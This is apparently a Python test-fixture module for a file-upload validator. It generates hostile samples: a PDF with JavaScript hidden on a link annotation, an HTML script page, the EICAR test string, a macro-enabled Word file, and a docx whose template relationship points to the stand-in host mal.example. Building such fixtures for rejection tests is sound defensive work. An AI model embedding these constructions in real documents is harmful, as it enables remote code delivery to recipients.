"""Files that a convention must refuse, and those it takes: the hostile ones are made here, byte by byte."""

from __future__ import annotations

import io

import pikepdf
from PIL import Image

from tests.ressources import fichiers

SCRIPT = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert(1)"))
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf() -> bytes:
    return fichiers.pdf(pages=1)


def image(format: str = "PNG") -> bytes:
    sortie = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(sortie, format)
    return sortie.getvalue()


def pdf_avec_script_cache() -> bytes:
    """JavaScript on a link of a page: nothing at the level of the document tells."""
    sortie = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        lien = pikepdf.Dictionary(
            Type=pikepdf.Name("/Annot"), Subtype=pikepdf.Name("/Link"), Rect=[0, 0, 9, 9], A=SCRIPT
        )
        document.pages[0].obj["/Annots"] = document.make_indirect(pikepdf.Array([lien]))
        document.save(sortie)
    return sortie.getvalue()


def pdf_avec_fichier() -> bytes:
    sortie = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.attachments["macro.docm"] = b"contenu"
        document.save(sortie)
    return sortie.getvalue()


def docm() -> bytes:
    """A Word file with macros, whose types say so."""
    types = fichiers.docx()
    source = io.BytesIO(types)
    import zipfile

    with zipfile.ZipFile(source) as archive:
        parties = {nom: archive.read(nom) for nom in archive.namelist()}
    parties["[Content_Types].xml"] = parties["[Content_Types].xml"].replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    parties["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    return fichiers.archive(parties)


def docx_a_modele_distant() -> bytes:
    lien = (
        '<Relationships><Relationship Type="http://x/attachedTemplate" Target="https://mal.example/x.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return fichiers.avec(fichiers.docx(), {"word/_rels/settings.xml.rels": lien})
